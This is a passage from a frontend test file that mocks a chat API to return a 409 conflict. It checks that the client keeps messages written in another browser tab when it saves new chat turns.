    const handle = vi.mocked(fetch).getMockImplementation()!;
    vi.mocked(fetch).mockImplementation(async (input, init) => {
      const request = input instanceof Request ? input : new Request(input, init);
      if (request.method === 'POST' && new URL(request.url).pathname === '/api/chats/') {
        const body = (await request.clone().json()) as { messages: unknown[]; replace?: boolean };
        const current = server.state.chats.find((chat) => chat.chat_id === chatId)!;
        const extendsStored =
          JSON.stringify(body.messages.slice(0, current.messages.length)) ===
          JSON.stringify(current.messages);
        if (!extendsStored && !body.replace) {
          server.state.calls.push({
            method: 'POST',
            path: '/api/chats/',
            search: new URLSearchParams(),
            body,
          });
          return new Response(JSON.stringify({ detail: 'conflict', code: 'CHAT_CONFLICT', chat: current }), {
            status: 409,
            headers: { 'Content-Type': 'application/json' },
          });
        }
      }
      return handle(request);
    });

    const second = await ask(server, user, 'Two');
    act(() => second.done('Answer two'));
    await within(log()).findByText('Answer two');
    await waitFor(() =>
      expect(
        server.state.chats
          .find((chat) => chat.chat_id === chatId)!
          .messages.map((message) => message.content),
      ).toEqual(['One', 'Answer one', 'From the other tab', 'Two', 'Answer two']),
    );
  });
});
